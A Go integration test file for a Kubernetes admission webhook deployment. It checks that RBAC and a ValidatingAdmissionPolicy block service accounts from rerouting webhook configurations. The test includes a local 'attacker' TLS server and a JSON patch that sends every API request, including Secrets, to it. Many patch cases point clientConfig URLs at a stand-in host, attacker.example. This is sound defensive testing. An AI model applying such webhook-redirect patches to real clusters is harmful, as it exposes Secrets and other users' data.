package deploy

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	reviewv1 "k8s.io/api/admission/v1"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/version"
	"k8s.io/client-go/kubernetes"
	"sigs.k8s.io/yaml"
)

const policy = "tracehook-authority"

// policies says whether this API server knows ValidatingAdmissionPolicies.
func policies() bool { return shared.Version.AtLeast(version.MajorMinor(1, 30)) }

func needPolicies(t *testing.T) {
	t.Helper()
	if !policies() {
		t.Skipf("Kubernetes %s has no ValidatingAdmissionPolicy v1", shared.Version)
	}
}

// change patches a configuration; a dry run stores nothing.
func change(ctx context.Context, clients kubernetes.Interface, name string, kind types.PatchType, patch string, dryRun ...string) (*admissionv1.MutatingWebhookConfiguration, error) {
	o := metav1.PatchOptions{DryRun: dryRun}
	if kind == types.ApplyPatchType {
		o.FieldManager, o.Force = "tracehook-certs", new(true)
	}
	return clients.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, name, kind, []byte(patch), o)
}

// refusedBy is "rights" or "policy", "nobody" for what was allowed, or another error.
func refusedBy(err error) string {
	switch {
	case err == nil:
		return "nobody"
	case apierrors.IsForbidden(err) && strings.Contains(err.Error(), "cannot patch resource"):
		return "rights"
	case (apierrors.IsForbidden(err) || apierrors.IsInvalid(err)) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+"'"):
		return "policy"
	}
	return err.Error()
}

// becomes waits until the API server acts on what is stored: a label of somebody's is refused so.
func becomes(t *testing.T, clients kubernetes.Interface, refused string) {
	t.Helper()
	eventually(t, 30*time.Second, func(ctx context.Context) error {
		_, err := change(ctx, clients, "tracehook", types.MergePatchType, `{"metadata":{"labels":{"a":"b"}}}`, metav1.DryRunAll)
		if by := refusedBy(err); by != refused {
			return fmt.Errorf("refused by %s, want %s", by, refused)
		}
		return nil
	})
}

// attacker takes whatever an API server sends it.
type attacker struct {
	*httptest.Server
	loot atomic.Pointer[string] // the Secret of that name
}

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{}
	a.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var review reviewv1.AdmissionReview
		if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
			http.Error(w, "no review", http.StatusBadRequest)
			return
		}
		if review.Request.Name == "loot" {
			object := string(review.Request.Object.Raw)
			a.loot.Store(&object)
		}
		review.Response, review.Request = &reviewv1.AdmissionResponse{UID: review.Request.UID, Allowed: true}, nil
		_ = json.NewEncoder(w).Encode(review)
	}))
	t.Cleanup(a.Close)
	return a
}

// patch has every object that anybody creates sent to the attacker.
func (a *attacker) patch() string {
	bundle := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.Certificate().Raw}))
	return `[{"op":"add","path":"/webhooks/0/rules","value":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*/*"]}]},
		{"op":"add","path":"/webhooks/0/namespaceSelector","value":{}},
		{"op":"add","path":"/webhooks/0/objectSelector","value":{}},
		{"op":"add","path":"/webhooks/0/matchConditions","value":[]},
		{"op":"add","path":"/webhooks/0/clientConfig","value":{"url":"` + a.URL + `","caBundle":"` + bundle + `"}}]`
}

// accounts are the ServiceAccounts in a file, and two that nobody ships.
func accounts(t *testing.T, path string) []string {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	names := []string{"default", "another"}
	for _, document := range strings.Split(string(text), "\n---\n") {
		var object struct {
			Kind     string
			Metadata struct{ Name string }
		}
		if err := yaml.Unmarshal([]byte(document), &object); err != nil {
			t.Fatal(err)
		}
		if object.Kind == "ServiceAccount" {
			names = append(names, object.Metadata.Name)
		}
	}
	return names
}

// With the token of a ServiceAccount of ours nobody gets at the requests of others: neither RBAC nor the policy lets one write where
// the API server sends them. Without the policy the same patch gives the attacker the next Secret.
func TestNoServiceAccountCanHaveTheRequestsOfOthersSentToItself(t *testing.T) {
	overlays, err := os.ReadDir(filepath.Join(shared.deploy, "overlays"))
	if err != nil {
		t.Fatal(err)
	}
	type rendering struct {
		name, resource string
		components     []string
	}
	var cases []rendering
	for _, overlay := range overlays {
		cases = append(cases, rendering{overlay.Name(), "overlays/" + overlay.Name(), nil})
	}
	for _, way := range ways {
		cases = append(cases, rendering{way + " with everything", "base", append([]string{way}, addOns(t)...)})
	}
	// Which account keeps the certificates, and therefore may patch at all.
	keeper := map[string]string{
		"split": "tracehook-authority", "certs-authority with everything": "tracehook-authority",
		"managed": "tracehook", "kind": "tracehook", "certs-managed with everything": "tracehook",
	}
	evil := startAttacker(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := kustomization(t, c.resource, c.components...)
			install(t, path)
			for _, account := range accounts(t, path) {
				_, clients := as(t, account)
				by := "rights"
				if account == keeper[c.name] {
					if by = "policy"; !policies() {
						by = "nobody" // which is why COMPATIBILITY.md says what to install there
					}
				}
				becomes(t, clients, by)
				if by == "nobody" {
					continue
				}
				for _, configuration := range []string{"tracehook", "tracehook-proof"} {
					if _, err := change(t.Context(), clients, configuration, types.JSONPatchType, evil.patch()); refusedBy(err) != by {
						t.Errorf("%s as %s: refused by %s, want %s", configuration, account, refusedBy(err), by)
					}
				}
			}
			if keeper[c.name] == "" || !policies() {
				return
			}
			// The control.
			mustKubectl(t, "delete", "validatingadmissionpolicybinding/"+policy)
			_, clients := as(t, keeper[c.name])
			becomes(t, clients, "nobody")
			if _, err := change(t.Context(), clients, "tracehook", types.JSONPatchType, evil.patch()); err != nil {
				t.Fatalf("without the policy: %v", err)
			}
			evil.loot.Store(nil)
			eventually(t, 30*time.Second, func(ctx context.Context) error {
				if _, err := shared.Kubectl(ctx, "create", "secret", "generic", "loot", "--from-literal=password=swordfish", "--dry-run=server"); err != nil {
					return err
				}
				if loot := evil.loot.Load(); loot == nil || !strings.Contains(*loot, "password") {
					return errors.New("without the policy the attacker gets no Secret: the attack is none")
				}
				return nil
			})
		})
	}
}

// Everything that one can change about a configuration, by every way to write.
func TestAnAuthorityMayChangeTheBundleAndThePathOfTheProofAndNothingElse(t *testing.T) {
	needPolicies(t)
	install(t, kustomization(t, "base", "certs-authority", "env-injection", "custom-resources"))
	_, clients := as(t, "tracehook-authority")
	becomes(t, clients, "policy")

	webhook := func(field, value string) string {
		return fmt.Sprintf(`[{"op":"add","path":"/webhooks/0/%s","value":%s}]`, field, value)
	}
	const name, proof = "trace-context.tracehook.dev", "proof.tracehook.dev"
	const json, merge, strategic, apply = types.JSONPatchType, types.MergePatchType, types.StrategicMergePatchType, types.ApplyPatchType
	head := `"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"tracehook"},`
	for _, test := range []struct {
		field, configuration string // field: as Kubernetes' types have it, or in words
		kind                 types.PatchType
		patch                string
		allowed              bool
	}{
		{"CABundle", "tracehook", json, webhook("clientConfig/caBundle", `"`+base64Bundle()+`"`), true},
		{"CABundle", "tracehook-proof", json, webhook("clientConfig/caBundle", `"`+base64Bundle()+`"`), true},
		{"CABundle", "tracehook", apply, `{` + head + `"webhooks":[{"name":"` + name + `","clientConfig":{"caBundle":"` + base64Bundle() + `"}}]}`, true},
		{"Path", "tracehook-proof", json, webhook("clientConfig/service/path", `"/prove/g1/any"`), true},
		{"CABundle and Path", "tracehook-proof", strategic, `{"webhooks":[{"name":"` + proof + `","clientConfig":{"caBundle":"` + base64Bundle() + `","service":{"path":"/prove/g1/any"}}}]}`, true},

		{"Name", "tracehook", json, webhook("name", `"another.tracehook.dev"`), false},
		{"Rules", "tracehook", json, `[{"op":"add","path":"/webhooks/0/rules/-","value":{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*/*"]}}]`, false},
		{"Rules", "tracehook", json, `[{"op":"replace","path":"/webhooks/0/rules/0/operations","value":["CREATE","CONNECT"]}]`, false},
		{"Rules", "tracehook", json, `[{"op":"remove","path":"/webhooks/0/rules/0"}]`, false},
		{"Rules", "tracehook-proof", json, webhook("rules/0/resources", `["*"]`), false},
		{"FailurePolicy", "tracehook", json, webhook("failurePolicy", `"Fail"`), false},
		{"FailurePolicy", "tracehook-proof", json, webhook("failurePolicy", `"Ignore"`), false},
		{"MatchPolicy", "tracehook", json, webhook("matchPolicy", `"Exact"`), false},
		{"NamespaceSelector", "tracehook", json, webhook("namespaceSelector", `{}`), false},
		{"NamespaceSelector", "tracehook-proof", json, `[{"op":"remove","path":"/webhooks/0/namespaceSelector"}]`, false},
		{"ObjectSelector", "tracehook", json, webhook("objectSelector", `{"matchLabels":{"a":"b"}}`), false},
		{"ObjectSelector", "tracehook-proof", json, `[{"op":"remove","path":"/webhooks/0/objectSelector"}]`, false},
		{"SideEffects", "tracehook", json, webhook("sideEffects", `"NoneOnDryRun"`), false},
		{"TimeoutSeconds", "tracehook", json, webhook("timeoutSeconds", `30`), false},
		{"AdmissionReviewVersions", "tracehook", json, webhook("admissionReviewVersions", `["v1","v1beta1"]`), false},
		{"ReinvocationPolicy", "tracehook", json, webhook("reinvocationPolicy", `"Never"`), false},
		{"MatchConditions", "tracehook", json, webhook("matchConditions", `[]`), false},
		{"MatchConditions", "tracehook", json, `[{"op":"remove","path":"/webhooks/0/matchConditions/0"}]`, false},
		{"ClientConfig", "tracehook", json, webhook("clientConfig", `{"url":"https://attacker.example/"}`), false},
		{"URL", "tracehook", json, `[{"op":"remove","path":"/webhooks/0/clientConfig/service"},{"op":"add","path":"/webhooks/0/clientConfig/url","value":"https://attacker.example/"}]`, false},
		{"URL", "tracehook-proof", json, `[{"op":"remove","path":"/webhooks/0/clientConfig/service"},{"op":"add","path":"/webhooks/0/clientConfig/url","value":"https://attacker.example/"}]`, false},
		{"Service", "tracehook", json, webhook("clientConfig/service", `{"namespace":"attacker","name":"attacker"}`), false},
		{"Namespace", "tracehook-proof", json, webhook("clientConfig/service/namespace", `"attacker"`), false},
		{"Name of the Service", "tracehook-proof", json, webhook("clientConfig/service/name", `"attacker"`), false},
		{"Port", "tracehook-proof", json, webhook("clientConfig/service/port", `8443`), false},
		{"Path", "tracehook", json, webhook("clientConfig/service/path", `"/mutate/environment"`), false},
		{"Path", "tracehook", json, `[{"op":"remove","path":"/webhooks/0/clientConfig/service/path"}]`, false},
		{"the second webhook", "tracehook", json, `[{"op":"add","path":"/webhooks/1/failurePolicy","value":"Fail"}]`, false},
		{"the last webhook", "tracehook", json, `[{"op":"add","path":"/webhooks/2/namespaceSelector","value":{}}]`, false},

		{"webhook appended", "tracehook", json, `[{"op":"add","path":"/webhooks/-","value":{"name":"evil.example.org","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"},"rules":[]}}]`, false},
		{"webhook appended", "tracehook-proof", json, `[{"op":"add","path":"/webhooks/0","value":{"name":"evil.example.org","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"},"rules":[]}}]`, false},
		{"webhook appended", "tracehook", apply, `{` + head + `"webhooks":[{"name":"evil.example.org","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"}}]}`, false},
		{"webhook appended", "tracehook", strategic, `{"webhooks":[{"name":"evil.example.org","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"}}]}`, false},
		{"webhooks replaced", "tracehook", merge, `{"webhooks":[{"name":"` + name + `","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"}}]}`, false},
		{"webhook removed", "tracehook", json, `[{"op":"remove","path":"/webhooks/1"}]`, false},
		{"webhooks removed", "tracehook-proof", merge, `{"webhooks":null}`, false},
		{"webhooks reordered", "tracehook", json, `[{"op":"move","from":"/webhooks/0","path":"/webhooks/1"}]`, false},
		{"field applied", "tracehook", apply, `{` + head + `"webhooks":[{"name":"` + name + `","failurePolicy":"Fail","clientConfig":{"caBundle":"` + base64Bundle() + `"}}]}`, false},
		{"bundle and rules", "tracehook", strategic, `{"webhooks":[{"name":"` + name + `","clientConfig":{"caBundle":"` + base64Bundle() + `"},"rules":[]}]}`, false},

		{"label added", "tracehook", merge, `{"metadata":{"labels":{"a":"b"}}}`, false},
		{"label changed", "tracehook-proof", merge, `{"metadata":{"labels":{"app.kubernetes.io/part-of":"b"}}}`, false},
		{"labels removed", "tracehook", merge, `{"metadata":{"labels":null}}`, false},
		{"annotation", "tracehook", merge, `{"metadata":{"annotations":{"cert-manager.io/inject-ca-from":"attacker/attacker"}}}`, false},
		{"ownerReferences", "tracehook", merge, `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Namespace","name":"none","uid":"1"}]}}`, false},
		{"finalizers", "tracehook-proof", merge, `{"metadata":{"finalizers":["example.org/stays"]}}`, false},
		{"bundle and label", "tracehook", strategic, `{"metadata":{"labels":{"a":"b"}},"webhooks":[{"name":"` + name + `","clientConfig":{"caBundle":"` + base64Bundle() + `"}}]}`, false},
	} {
		t.Run(strings.Join([]string{test.configuration, test.field, string(test.kind)}, " "), func(t *testing.T) {
			want := "policy"
			if test.allowed {
				want = "nobody"
			}
			if _, err := change(t.Context(), clients, test.configuration, test.kind, test.patch, metav1.DryRunAll); refusedBy(err) != want {
				t.Errorf("refused by %s, want %s", refusedBy(err), want)
			}
			// An operator may, and it is a change.
			before, err := shared.clients.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(t.Context(), test.configuration, metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			after, err := change(t.Context(), shared.clients, test.configuration, test.kind, test.patch, metav1.DryRunAll)
			if err != nil {
				t.Fatalf("as an operator: %v", err)
			}
			before.ManagedFields, after.ManagedFields, after.ResourceVersion, after.Generation = nil, nil, before.ResourceVersion, before.Generation
			if reflect.DeepEqual(before, after) {
				t.Error("this patch changes nothing, so that its refusal says nothing")
			}
		})
	}
	// A field that Kubernetes adds is compared as well, and wants its row here.
	var rows []string
	for _, of := range []any{admissionv1.MutatingWebhook{}, admissionv1.WebhookClientConfig{}, admissionv1.ServiceReference{}} {
		for field := range reflect.TypeOf(of).Fields() {
			rows = append(rows, field.Name)
		}
	}
	known := []string{"Name", "ClientConfig", "Rules", "FailurePolicy", "MatchPolicy", "NamespaceSelector", "ObjectSelector", "SideEffects", "TimeoutSeconds",
		"AdmissionReviewVersions", "ReinvocationPolicy", "MatchConditions", "URL", "Service", "CABundle", "Namespace", "Name", "Path", "Port"}
	slices.Sort(rows)
	slices.Sort(known)
	if !slices.Equal(rows, known) {
		t.Errorf("fields %q, rows for %q", rows, known)
	}
}

// Who is limited: our namespace, whatever else RBAC gives it, and everybody who may only patch. Who is not: operators.
func TestThePolicyIsForOurAccountsAndForWhoMayOnlyPatch(t *testing.T) {
	needPolicies(t)
	install(t, kustomization(t, "base", "certs-authority"))
	install(t, write(t, `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: policy-test-operator, labels: {app.kubernetes.io/part-of: tracehook}}
rules: [{apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [get, list, watch, create, update, patch, delete]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: policy-test-operator}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: policy-test-operator}
subjects:
  - {apiGroup: rbac.authorization.k8s.io, kind: User, name: operator}
  - {kind: ServiceAccount, namespace: flux-system, name: kustomize-controller}
  - {kind: ServiceAccount, namespace: tracehook-system-2, name: tracehook}
  - {kind: ServiceAccount, namespace: tracehook-system, name: new}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: policy-test-patcher}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: tracehook-authority}
subjects:
  - {apiGroup: rbac.authorization.k8s.io, kind: User, name: patcher}
  - {kind: ServiceAccount, namespace: elsewhere, name: copied}
`))
	for user, by := range map[string]string{
		"operator": "nobody",
		"system:serviceaccount:flux-system:kustomize-controller": "nobody",
		"system:serviceaccount:tracehook-system-2:tracehook":     "nobody",
		"system:serviceaccount:tracehook-system:new":             "policy",
		"patcher":                                "policy",
		"system:serviceaccount:elsewhere:copied": "policy",
		"stranger":                               "rights",
	} {
		kubeconfig, err := shared.User(user, "system:authenticated")
		if err != nil {
			t.Fatal(err)
		}
		becomes(t, clientsOf(t, kubeconfig), by)
	}
	// Whoever has emptied the configuration by mistake can be helped.
	mustKubectl(t, "patch", "mutatingwebhookconfiguration/tracehook", "--type=merge", "-p", `{"webhooks":null}`)
	mustKubectl(t, "apply", "-f", kustomization(t, "base", "certs-authority"))
}

// The API server has read every expression against the types of its own, and has nothing to say.
func TestThePolicyIsUnderstoodWithoutAWarning(t *testing.T) {
	needPolicies(t)
	install(t, kustomization(t, "base", "certs-managed"))
	eventually(t, 30*time.Second, func(ctx context.Context) error {
		found, err := shared.clients.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(ctx, policy, metav1.GetOptions{})
		if err != nil {
			return err
		}
		if found.Status.ObservedGeneration != found.Generation || found.Status.TypeChecking == nil {
			return errors.New("not checked yet")
		}
		for _, warning := range found.Status.TypeChecking.ExpressionWarnings {
			return fmt.Errorf("%s: %s", warning.FieldRef, warning.Warning)
		}
		return nil
	})
}

// kubectl goes on after a kind that the API server lacks. Even then nobody who is called may write.
func TestBeforeThereArePoliciesTheInstallFileGivesNoRightToThePodsThatServe(t *testing.T) {
	if policies() {
		t.Skipf("Kubernetes %s has policies", shared.Version)
	}
	mustKubectl(t, "apply", "-f", filepath.Join(shared.deploy, "base", "namespace.yaml"))
	t.Cleanup(func() { uninstall(t, installFile(t)) })
	if _, err := shared.Kubectl(t.Context(), "apply", "-f", filepath.Join(shared.deploy, "install.yaml")); err == nil || !strings.Contains(err.Error(), `no matches for kind "ValidatingAdmissionPolicy"`) {
		t.Errorf("applied: %v", err)
	}
	_, clients := as(t, "tracehook")
	becomes(t, clients, "rights")
	mustKubectl(t, "-n", namespace, "get", "deployment/tracehook", "deployment/tracehook-authority")
}
